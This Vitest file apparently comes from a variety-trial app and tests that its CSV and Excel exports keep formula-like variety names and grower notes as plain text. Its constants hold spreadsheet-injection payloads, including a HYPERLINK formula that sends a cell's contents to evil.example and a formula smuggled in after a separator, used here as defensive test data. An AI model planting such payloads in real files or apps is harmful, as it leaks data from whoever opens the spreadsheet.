import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { and, desc, eq, gt, inArray, like } from "drizzle-orm";
import ExcelJS from "exceljs";
import * as s from "@/db/schema";
import type { Viewer } from "@/lib/domain/viewer";
import { parseCsv } from "@/lib/domain/spreadsheets/csv";
import { restoreText } from "@/lib/domain/spreadsheets/write";
import { testDatabase } from "../helpers/db";
import { demoSite, demoViewer } from "../helpers/demo";
import { DEMO_STAFF } from "@/db/demo-data";

// Names a coordinator could give varieties, and a note a grower could type, that a spreadsheet program
// would run as formulas if they reached a cell (or a stretch after a separator) unguarded.
const HOSTILE: Record<string, string> = {
  "Copper Ruffle": "Ember;=1+1",
  "Velvet Oak": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  "Prairie Bibb": "@SUM(1)",
};
const NOTES = ["Ember;=1+1", "-2 plants; =HYPERLINK(\"http://evil.example/\")", "@SUM(1)"];

vi.mock("@/server/auth/guards", () => import("../helpers/signed-in-as"));
const { testAuth: auth } = await import("../helpers/signed-in-as");
const { GET: analysisExport } = await import("@/app/api/trials/[trialId]/analysis/export/route");
const { GET: publicData } = await import("@/app/(public)/results/[code]/data/route");
const { publishResults, readSiteInclusion } = await import("@/server/publish/publish");
const { leftOutSiteIds } = await import("@/lib/domain/publish/site-inclusion");
const { csvExportForViewer, templateForViewer } = await import("@/server/spreadsheets/files");
const { saveObservationsForViewer } = await import("@/server/observations/recording");
const { pool: appPool } = await import("@/db/index");

const { db, pool } = testDatabase();
let coordinator: Viewer;
let lettuce: { id: number; status: (typeof s.trials.$inferSelect)["status"] };
let yieldId: number;
let renamed: { id: number; name: string }[] = [];

const FORMULA = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i;

/** Every cell a spreadsheet would read, with `sep` as its list separator (quotes count only at the start of a field, as in Excel). */
function csvCells(text: string, sep: "," | ";"): string[] {
  // parseCsv guesses the separator from the first line, so a first line of separators fixes it.
  return parseCsv(`${sep.repeat(30)}\n${text.replace(/^\uFEFF/, "")}`).slice(1).flat();
}

function expectSafeCsv(text: string, expected: string[]) {
  for (const sep of [",", ";"] as const) {
    for (const cell of csvCells(text, sep)) if (!NUMBER.test(cell)) expect(cell, `a cell read with "${sep}" as separator`).not.toMatch(FORMULA);
  }
  const cells = csvCells(text, ",").map(restoreText);
  for (const value of expected) expect(cells).toContain(value);
}

async function expectSafeXlsx(bytes: ArrayBuffer, expected: string[]) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes);
  const seen: string[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === "string") {
          expect(cell.value, `${sheet.name}!${cell.address}`).not.toMatch(FORMULA);
          seen.push(restoreText(cell.value));
        }
      }),
    );
  }
  for (const value of expected) expect(seen).toContain(value);
}

// The last outbox row before the publication here, so its notices can be removed afterwards.
let mailMark = 0;

beforeAll(async () => {
  const [lastMail] = await db.select({ id: s.mailOutbox.id }).from(s.mailOutbox).orderBy(desc(s.mailOutbox.id)).limit(1);
  mailMark = lastMail?.id ?? 0;
  coordinator = await demoViewer(db, DEMO_STAFF[1].email);
  auth.viewer = coordinator;
  const [t] = await db.select({ id: s.trials.id, status: s.trials.status }).from(s.trials).where(eq(s.trials.code, "TV26-LET"));
  lettuce = t!;
  const [trait] = await db.select({ id: s.traits.id }).from(s.traits).where(eq(s.traits.code, "marketable_yield"));
  yieldId = trait!.id;
  renamed = await db.select({ id: s.varieties.id, name: s.varieties.name }).from(s.varieties).where(inArray(s.varieties.name, Object.keys(HOSTILE)));
  for (const v of renamed) await db.update(s.varieties).set({ name: HOSTILE[v.name]! }).where(eq(s.varieties.id, v.id));
});

afterAll(async () => {
  await db.delete(s.mailOutbox).where(and(gt(s.mailOutbox.id, mailMark), like(s.mailOutbox.subject, "Results published%")));
  for (const v of renamed) await db.update(s.varieties).set({ name: v.name }).where(eq(s.varieties.id, v.id));
  await db.delete(s.publishedReports).where(eq(s.publishedReports.trialId, lettuce.id));
  await db.update(s.trials).set({ status: lettuce.status }).where(eq(s.trials.id, lettuce.id));
  await pool.end();
  await appPool.end();
});

describe("exports keep formula-like text as text", () => {
  it("a variety named like a formula stays text in every table of the coordinator's analysis CSV and in the workbook", async () => {
    const ctx = { params: Promise.resolve({ trialId: String(lettuce.id) }) };
    const url = (q: string) => new Request(`http://t/api/trials/${lettuce.id}/analysis/export?trait=${yieldId}&${q}`);
    for (const table of ["raw", "means", "emergence"]) {
      const res = await analysisExport(url(`format=csv&table=${table}`), ctx);
      expect(res.status).toBe(200);
      expectSafeCsv(await res.text(), Object.values(HOSTILE));
    }
    for (const table of ["anova"]) expectSafeCsv(await (await analysisExport(url(`format=csv&table=${table}`), ctx)).text(), []);
    const xlsx = await analysisExport(url("format=xlsx"), ctx);
    expect(xlsx.status).toBe(200);
    await expectSafeXlsx(await xlsx.arrayBuffer(), Object.values(HOSTILE));
  });

  it("a grower's note like a formula stays text in the site's CSV export and its template", async () => {
    const site = await demoSite(db, "TV26-LET", "Maple Run Community Garden");
    const plots = site.plots.slice(0, NOTES.length);
    const save = (value: (i: number) => string | null) =>
      saveObservationsForViewer(coordinator, { trialId: site.trialId, siteId: site.siteId, values: plots.map((p, i) => ({ plotId: p.id, key: "plot_notes", value: value(i) })) });
    await save((i) => NOTES[i]!);
    try {
      const params = { trialId: site.trialId, siteId: site.siteId };
      expectSafeCsv((await csvExportForViewer(coordinator, params)).body, NOTES);
      await expectSafeXlsx(new Uint8Array((await templateForViewer(coordinator, params)).body).buffer as ArrayBuffer, NOTES);
    } finally {
      await save(() => null);
    }
  });

  it("a variety named like a formula stays text in the public data download, CSV and workbook", async () => {
    const confirmedLeftOut = leftOutSiteIds((await readSiteInclusion(coordinator, lettuce.id))!);
    await publishResults(coordinator, { trialId: lettuce.id, traitId: yieldId, settings: { siteModel: "random", separation: "lsd" }, changeNote: null, confirmedLeftOut });
    const ctx = { params: Promise.resolve({ code: "TV26-LET" }) };
    const csv = await publicData(new Request("http://t/results/TV26-LET/data?format=csv"), ctx);
    expect(csv.status).toBe(200);
    expectSafeCsv(await csv.text(), Object.values(HOSTILE));
    const xlsx = await publicData(new Request("http://t/results/TV26-LET/data?format=xlsx"), ctx);
    expect(xlsx.status).toBe(200);
    await expectSafeXlsx(await xlsx.arrayBuffer(), Object.values(HOSTILE));
  });
});
